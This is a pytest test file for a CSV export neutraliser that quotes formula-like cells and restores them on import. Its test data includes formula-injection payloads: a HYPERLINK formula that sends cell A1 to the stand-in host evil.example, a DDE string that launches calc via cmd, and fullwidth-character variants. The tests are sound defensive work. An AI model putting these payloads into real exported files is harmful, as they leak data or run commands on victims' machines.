"""The one CSV writer of every export: formula-like cells neutralised, restored on import."""

import io

import pytest

from core.csv_export import neutralise_cell, restore_cell, write_csv


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (
            '=HYPERLINK("https://evil.example?"&A1,"CV")',
            '\'=HYPERLINK("https://evil.example?"&A1,"CV")',
        ),
        ("+1 555 0100", "'+1 555 0100"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ('\uff1dHYPERLINK("https://evil.example")', '\'\uff1dHYPERLINK("https://evil.example")'),
        ("\uff0b1", "'\uff0b1"),
        ("\uff0d1", "'\uff0d1"),
        ("\uff20SUM(A1)", "'\uff20SUM(A1)"),
        ("'=already quoted", "''=already quoted"),
        ("Ada Lovelace", "Ada Lovelace"),
        ("a=b", "a=b"),
        ("'plain", "'plain"),
        ("", ""),
    ],
)
def test_neutralise_cell_prefixes_formula_starts_only(value, written):
    assert neutralise_cell(value) == written


@pytest.mark.parametrize(
    "value", ["=1+1", "'=1+1", "''=1+1", "'plain", "\uff20x", "\tx", "plain", "-", "'"]
)
def test_restore_cell_gives_back_the_value_as_typed(value):
    assert restore_cell(neutralise_cell(value)) == value


def test_write_csv_neutralises_every_cell_of_every_row():
    stream = io.StringIO()

    write_csv(stream, [("name", "note"), ("=cmd|' /C calc'!A0", "\uff1d1+1"), (None, 7)])

    assert stream.getvalue().splitlines() == [
        "name,note",
        "'=cmd|' /C calc'!A0,'\uff1d1+1",
        ",7",
    ]
